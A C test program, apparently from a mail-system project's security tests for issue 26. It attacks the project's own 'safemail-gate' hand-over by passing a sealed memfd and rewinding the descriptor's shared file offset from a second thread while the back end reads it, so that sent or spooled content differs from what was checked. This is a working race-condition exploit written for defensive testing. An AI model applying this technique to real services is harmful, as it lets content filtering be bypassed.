/* attack_splice - the web user's attack on the gate's hand-over (issue
 * 26): speak the gate's protocol directly, keep a descriptor of the
 * sealed message memfd, and move its shared file offset back while the
 * back end reads it, so that what is sent or stored is not what was
 * checked.
 *
 *   attack_splice GATE S|Q HOST MESSAGE-FILE
 *
 * S: send now (the relay client reads it); Q: queue (the gate copies it
 * into the spool). Prints "rewinds N code C": how often the offset was
 * seen moving and was set back, and the gate's exit code. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define SEALS (F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE)

static int msgfd;
static atomic_int stop, rewinds;

static int
memfile(const char *data, size_t len)
{
	int fd = memfd_create("m", MFD_ALLOW_SEALING);
	size_t off = 0;

	while (fd >= 0 && off < len) {
		ssize_t n = write(fd, data + off, len - off);

		if (n <= 0)
			exit(2);
		off += (size_t)n;
	}
	if (fd < 0 || fcntl(fd, F_ADD_SEALS, SEALS) != 0 ||
	    lseek(fd, 0, SEEK_SET) != 0)
		exit(2);
	return fd;
}

/* Whenever a reader has got past the first 100 000 octets, put it back
 * at the start: it reads the head again, and sends or stores more (and
 * other) bytes than were checked. */
static void *
move_back(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop)) {
		off_t at = lseek(msgfd, 0, SEEK_CUR);

		if (at > 100000 && atomic_load(&rewinds) < 5) {
			(void)lseek(msgfd, 0, SEEK_SET);
			atomic_fetch_add(&rewinds, 1);
		}
	}
	return NULL;
}

int
main(int argc, char **argv)
{
	static char policy[70000];
	char env[4096], req[32];
	int sv[2], envfd, code = -1;
	struct stat st;
	pthread_t th;
	char *msg;
	pid_t pid;
	FILE *in;

	if (argc != 5)
		return 2;
	in = fopen(argv[4], "rb");
	if (in == NULL || fstat(fileno(in), &st) != 0)
		return 2;
	msg = malloc((size_t)st.st_size);
	if (msg == NULL ||
	    fread(msg, 1, (size_t)st.st_size, in) != (size_t)st.st_size)
		return 2;
	(void)snprintf(env, sizeof(env),
	    "safemail-spool 1\nid 0123456789AB\ncreated %lld\nuid %u\n"
	    "sender shop@store.example.com\nsize %lld\nattempts 0\nnext 0\n"
	    "flags\nrcpt pending r0@example.org\nend\n",
	    (long long)time(NULL), (unsigned)getuid(),
	    (long long)st.st_size);
	envfd = memfile(env, strlen(env));
	msgfd = memfile(msg, (size_t)st.st_size);

	if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sv) != 0)
		return 2;
	pid = fork();
	if (pid == 0) {
		char *args[] = {"safemail-gate", "serve", NULL};
		char *envp[] = {"PATH=/usr/bin:/bin", NULL};

		if (dup2(sv[1], 3) != 3)
			_exit(2);
		execve(argv[1], args, envp);
		_exit(2);
	}
	close(sv[1]);
	if (recv(sv[0], policy, sizeof(policy), 0) < 1 || policy[0] != 'P')
		return 3;
	if (pthread_create(&th, NULL, move_back, NULL) != 0)
		return 2;
	{
		int fds[2] = {envfd, msgfd};
		char cbuf[CMSG_SPACE(sizeof(fds))];
		struct iovec iov;
		struct msghdr mh;
		struct cmsghdr *c;
		int n = snprintf(req, sizeof(req), "%sx-0.000000",
		    argv[2][0] == 'Q' ? "Q" : "S");

		memset(&mh, 0, sizeof(mh));
		memset(cbuf, 0, sizeof(cbuf));
		iov.iov_base = req;
		iov.iov_len = (size_t)n;
		mh.msg_iov = &iov;
		mh.msg_iovlen = 1;
		mh.msg_control = cbuf;
		mh.msg_controllen = sizeof(cbuf);
		c = CMSG_FIRSTHDR(&mh);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN(sizeof(fds));
		memcpy(CMSG_DATA(c), fds, sizeof(fds));
		if (sendmsg(sv[0], &mh, 0) != n)
			return 4;
	}
	/* a gate that stays says its exit code on the socket; one that
	 * ends, by its exit status (src/lib/linger.h) */
	(void)shutdown(sv[0], SHUT_WR);
	{
		char said[2];
		ssize_t n = recv(sv[0], said, 2, 0);
		int ws = 0;

		if (n == 2 && said[0] == 'D')
			code = (unsigned char)said[1];
		else if (waitpid(pid, &ws, 0) == pid && WIFEXITED(ws))
			code = WEXITSTATUS(ws);
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	(void)printf("rewinds %d code %d\n", atomic_load(&rewinds), code);
	return 0;
}
